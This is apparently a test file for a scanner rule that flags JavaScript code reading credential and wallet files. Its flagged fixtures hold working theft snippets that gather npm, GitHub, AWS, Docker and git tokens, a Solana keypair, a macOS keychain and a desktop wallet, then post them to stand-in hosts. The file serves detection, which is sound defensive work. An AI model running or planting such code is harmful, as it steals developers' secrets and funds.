import { ruleTest } from '../../testing/rule-tester.js';
import rule from './wallet-and-key-files.js';

ruleTest(rule, {
  clean: [
    {
      name: 'npm config loader reading the user .npmrc (no upload)',
      file: 'lib/config.js',
      code: "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nmodule.exports = () => fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n",
    },
    {
      name: 'ssh2 client reading the default key and known_hosts',
      file: 'lib/client.js',
      code: `const fs = require('fs'), os = require('os'), path = require('path');
const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));
const known = fs.readFileSync(path.join(os.homedir(), '.ssh/known_hosts'), 'utf8');
module.exports = { key, known };
`,
    },
    {
      name: 'dotenv loading .env',
      file: 'server/index.js',
      code: `require('dotenv').config({ path: '.env' });\nconst port = process.env.PORT || 3000;\n`,
    },
    {
      name: 'vite define keys and markdown bold (not globs)',
      file: 'dist/node.js',
      code: `const keys = ['import.meta.env.*', 'process.env.*'];\nconst md = '**Seed:** 42';\nfetch('https://example.org');\n`,
    },
    {
      name: 'aws sdk credentials file',
      file: 'src/credentials.ts',
      code: `import { homedir } from 'os';\nexport const credentialsFile = process.env.AWS_SHARED_CREDENTIALS_FILE ?? homedir() + '/.aws/credentials';\n`,
    },
  ],
  flagged: [
    {
      name: 'developer token sweep: .npmrc, gh hosts.yml, .aws, docker config, .git-credentials, posted out',
      file: 'lib/verify.js',
      code: "const fs = require('fs');\nconst h = require('os').homedir();\nconst out = {};\nfor (const f of ['.npmrc', '.config/gh/hosts.yml', '.aws/credentials', '.docker/config.json', '.git-credentials']) {\n  try { out[f] = fs.readFileSync(h + '/' + f, 'utf8'); } catch {}\n}\nfetch('https://x.example/ingest', { method: 'POST', body: JSON.stringify(out) });\n",
      findings: [{ line: 4, severity: 'critical', confidence: 'high', message: /npm token.*GitHub CLI token|GitHub CLI token.*npm token/ }],
    },
    {
      name: 'registry client: the user .npmrc and a registry request weigh low',
      file: 'lib/auth.js',
      code: "const fs = require('fs');\nconst token = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8').match(/_authToken=(.*)/)[1];\nfetch('https://registry.npmjs.org/-/whoami', { headers: { authorization: 'Bearer ' + token } });\n",
      findings: [{ line: 2, severity: 'low', confidence: 'low' }],
    },
    {
      name: 'Solana deploy script loading the CLI keypair (low)',
      file: 'scripts/deploy.js',
      code: `const { Connection, Keypair } = require('@solana/web3.js');
const kp = Keypair.fromSecretKey(Uint8Array.from(JSON.parse(require('fs').readFileSync(require('os').homedir() + '/.config/solana/id.json'))));
fetch('https://api.devnet.solana.com', { method: 'POST' });
`,
      findings: [{ line: 2, severity: 'low', confidence: 'low' }],
    },
    {
      name: 'BeaverTail-style wallet and keychain grab with upload',
      file: 'public/api/keygen.js',
      code: `const os = require('os'), fs = require('fs'), request = require('request');
const hd = os.homedir();
const targets = [hd + '/.config/solana/id.json', hd + '/Library/Keychains/login.keychain-db', hd + '/AppData/Roaming/Exodus/exodus.wallet'];
request.post({ url: 'http://example.org/uploads', formData: { multi_file: targets.map((t) => fs.createReadStream(t)) } });
`,
      findings: [{ line: 3, severity: 'critical', confidence: 'high', message: /Solana keypair, macOS keychain, desktop wallet, and sends/ }],
    },
    {
      name: 'glob sweep for seed phrases',
      file: 'util.js',
      code: `const glob = require('glob');\nconst files = glob.sync('**/*mnemonic*', { cwd: require('os').homedir() });\n`,
      findings: [{ line: 2, severity: 'medium', decoded: undefined }],
    },
    {
      name: 'env-file sweep with upload',
      file: 'lib/collect.js',
      code: `const fg = require('fast-glob');\nconst files = fg.sync(['**/*.env*', '**/*secret*'], { cwd: home });\nrequire('axios').post('https://x.example.net/u', files);\n`,
      findings: [{ line: 2, severity: 'medium' }],
    },
  ],
});
